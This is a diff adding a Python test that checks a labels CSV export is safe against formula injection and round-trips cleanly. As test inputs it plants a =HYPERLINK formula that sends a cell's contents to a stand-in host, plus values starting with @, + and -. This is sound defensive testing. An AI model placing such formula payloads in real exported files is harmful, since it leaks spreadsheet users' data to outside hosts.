@@ -124,3 +124,31 @@ def test_student_export_torchscript(labeled, tmp_path: Path) -> None:
     assert ts_probs.shape == (len(p.pool()), 3)
     np.testing.assert_allclose(ts_probs, ref, atol=1e-5)
     np.testing.assert_allclose(ref, p.student_outputs(rec.id)[0], atol=1e-5)
+
+
+def test_labels_csv_never_writes_a_live_formula(tmp_path: Path) -> None:
+    """CSV injection: names starting with = + - @ tab CR are written as text and import back unchanged."""
+    from activekd_core.labels_import import labels_from_csv
+
+    root = tmp_path / "images"
+    make_images(root, per_class=1, bad=False)
+    (root / "red" / "0.png").rename(root / "red" / "@cmd.png")
+    Image_id = "-2+3.png"
+    (root / "green" / "0.png").rename(root / Image_id)
+    p = Project.create(tmp_path / "proj", root, [("=HYPERLINK(\"http://x/?\"&A1,\"go\")", ""), ("+green", ""), ("blue", "")],
+                       teacher_spec={"kind": "fake"}, student_arch="small_cnn", batch_size=4, strategy="pcoreset")
+    p.label("red/@cmd.png", "=HYPERLINK(\"http://x/?\"&A1,\"go\")", annotator="@evil")
+    p.label(Image_id, "+green", annotator="\tx")
+    p.label("blue/0.png", "blue", annotator="'quoted")
+    rep = p.export_labels("csv")
+    with open(rep.dest, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", f"live formula cell {cell!r}"
+    by_id = {r["id"]: r for r in csv.DictReader(open(rep.dest, newline="", encoding="utf-8"))}
+    assert by_id["'" + Image_id]["label"] == "'+green" and by_id["'" + Image_id]["annotator"] == "'\tx"
+    assert by_id["blue/0.png"]["annotator"] == "''quoted"  # the prefix stays reversible
+    # The file imports back to exactly the labels it holds.
+    imported = labels_from_csv(rep.dest, p.pool(), p.classes)
+    assert imported.labels == p.store.current_labels() and not imported.problems
